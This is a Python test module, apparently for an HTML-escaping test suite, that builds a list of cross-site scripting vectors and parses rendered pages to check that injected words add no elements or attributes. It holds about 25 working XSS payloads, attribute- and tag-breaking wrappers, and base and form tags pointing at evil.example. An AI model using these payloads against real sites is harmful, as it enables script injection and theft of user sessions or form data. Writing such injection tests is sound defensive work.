"""Words that want to be markup, and what a page is made of: what a word must never add to."""

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<style>*{background:url(//e)}</style>",
    "<link rel=stylesheet href=//e>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<object data=javascript:alert(1)>",
    "<embed src=//e>",
    "<marquee onstart=alert(1)>",
)
WRAPPERS = (
    "{}", '"{}', "'{}", '">{}', "'>{}", "-->{}", "</title>{}", "</textarea>{}", "{{{{7*7}}}}{}",
    "&lt;{}", "\\u003c{}",
)  # fmt: skip
VECTORS = [wrap.format(payload) for wrap in WRAPPERS for payload in PAYLOADS]


class Shape(HTMLParser):
    """Elements and attribute names of a page: what a word must never add to."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data: str) -> None:
        self.words.append(data)
